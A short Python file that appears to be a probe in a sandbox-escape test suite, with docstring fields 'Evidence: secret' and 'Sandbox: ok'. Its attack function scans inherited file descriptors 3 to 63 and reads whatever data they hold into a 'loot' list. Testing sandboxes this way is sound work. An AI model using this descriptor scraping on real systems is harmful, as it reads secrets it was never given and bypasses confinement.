"""Read whatever the host has left open.

Evidence: secret
Sandbox: ok
"""

import os


def attack(target):
    loot = []
    for number in range(3, 64):
        try:
            os.lseek(number, 0, os.SEEK_SET)
            loot.append(os.read(number, 4096).decode("utf-8", "replace"))
        except OSError:
            continue
    return loot
